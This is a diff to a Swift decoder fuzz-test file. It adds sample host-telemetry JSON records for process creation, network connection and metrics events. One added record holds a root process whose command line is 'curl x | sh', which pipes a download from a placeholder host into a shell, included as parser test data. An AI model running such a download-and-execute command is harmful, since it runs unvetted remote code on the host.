@@ -54,6 +54,11 @@ struct DecoderFuzzTests {
             #"{"timestamp": "2026-02-24T05:29:39.448003", "ip_address": "127.0.0.1", "username": "1", "action": "PAGE_VISIT", "taskName": null}"#,
             #"{"timestamp": "2026-02-24T05:29:39.448003", "ip_address": "127.0.0.1", "username": "anonymous", "action": "LOGIN_FAILURE", "taskName": null, "event_id": "0190f1c2-0000-7000-8000-000000000000", "status": 401, "path": "/login", "duration_ms": 1.5, "attempted_username": "r\"oo\\t"}"#,
         ],
+        .host: [
+            #"{"timestamp": "2026-12-02T08:58:43.937684", "event_id": "01a235fa-4561-7cb1-998f-86436cdd0084", "category": "process_creation", "Image": "/usr/bin/bash", "CommandLine": "bash -c \"curl x | sh\"", "ProcessId": 22815, "User": "root", "ParentProcessId": 1, "ImageDeleted": "false", "Computer": "vm"}"#,
+            #"{"timestamp": "2026-12-02T08:58:50.941870", "category": "network_connection", "Image": "/usr/bin/bash", "Initiated": "true", "DestinationIp": "::1", "DestinationPort": 443, "Computer": "vm"}"#,
+            #"{"timestamp": "2026-12-02T08:58:45.940165", "category": "host_metrics", "CpuPercent": 3.0, "MemoryPercent": 3.3, "Computer": "vm"}"#,
+        ],
         .json: [
             #"{"@timestamp": "2026-02-24T05:29:39Z", "source": {"ip": "1.2.3.4"}, "a": {"b": [1, 2.5, "x", null, true]}}"#,
             #"{"ts": 1700000000.25, "message": "hello \u00e9 \ud83d\ude00", "n": -12e3}"#,
